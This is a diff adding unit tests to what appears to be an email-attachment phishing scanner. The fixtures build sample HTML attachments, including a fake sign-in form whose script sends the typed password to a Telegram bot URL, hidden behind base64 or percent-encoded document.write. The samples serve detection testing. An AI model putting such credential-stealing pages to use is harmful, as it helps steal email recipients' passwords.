@@ -13,6 +13,7 @@ import org.junit.jupiter.api.Test;
 
 import io.rampart.core.message.Attachment;
 import io.rampart.core.signatures.TestSignatureAnalyzer;
+import io.rampart.core.attachments.documents.MarkupInspector;
 import io.rampart.core.verdict.Verdict;
 import io.rampart.core.verdict.VerdictClass;
 
@@ -232,6 +233,45 @@ class AttachmentMessageTest {
                     + "https://collect.example-login.top/p.php");
             assertThat(verdict.verdictClass()).isEqualTo(VerdictClass.PHISH);
             assertThat(verdict.urls()).contains("https://collect.example-login.top/p.php");
+        }
+
+        @Test
+        void aPageTheScriptWritesIsInspectedLikeTheFile() {
+            String form = "<html><body><h2>Sign in to view the document</h2><form id=\"f\"><input type=\"email\" name=\"u\">"
+                + "<input type=\"password\" name=\"p\"></form><script>fetch(\"https://api.telegram.org/bot77123:AAH/sendMessage"
+                + "?chat_id=1&text=\"+document.forms[0].p.value)</script></body></html>";
+            String written = "<html><head><script>document.write(atob(\""
+                + java.util.Base64.getEncoder().encodeToString(form.getBytes(StandardCharsets.UTF_8)) + "\"));</script></head></html>";
+            Verdict verdict = scanAttachment("text/html", "Remittance.html", written.getBytes(StandardCharsets.UTF_8));
+
+            assertThat(details(verdict, "html.credential-form")).containsExactly(
+                "'Remittance.html' (part 1.2) > markup its script writes: HTML file attachment asks for a password");
+            assertThat(details(verdict, "html.exfiltration")).containsExactly("'Remittance.html' (part 1.2) > markup its "
+                + "script writes: HTML file attachment's script sends data to api.telegram.org/bot");
+            assertThat(verdict.verdictClass()).isEqualTo(VerdictClass.PHISH);
+        }
+
+        @Test
+        void percentEncodedPagesAndDottedTextBoxesToo() {
+            String form = "<form><input type=\"text\" style=\"-webkit-text-security:disc\" name=\"p\"></form>";
+            StringBuilder escaped = new StringBuilder();
+            for (byte b : form.getBytes(StandardCharsets.UTF_8)) {
+                escaped.append(String.format("%%%02x", b));
+            }
+            String written = "<script>var s = unescape(\"" + escaped + "\"); document.write(s);</script>";
+            Verdict verdict = scanAttachment("text/html", "scan.htm", written.getBytes(StandardCharsets.UTF_8));
+
+            assertThat(verdict.rules()).contains("html.credential-form", "html.obfuscated-script");
+            assertThat(MarkupInspector.percentDecoded("%3Cb%3E%u4E2D%E6%96%87 50% off %zz%")).isEqualTo("<b>中文 50% off %zz%");
+        }
+
+        @Test
+        void decodedTextThatIsNoMarkupIsLeftAlone() {
+            String page = "<html><body><p>Total: <span id=\"t\"></span></p><script>document.getElementById('t').textContent = "
+                + "atob(\"MTIzNC41NiBFVVIgZHVlIG9uIDMwIE5vdmVtYmVy\");</script></body></html>";
+            Verdict verdict = scanAttachment("text/html", "statement.html", page.getBytes(StandardCharsets.UTF_8));
+
+            assertThat(verdict.rules()).doesNotContain("html.credential-form", "html.exfiltration");
         }
 
         @Test
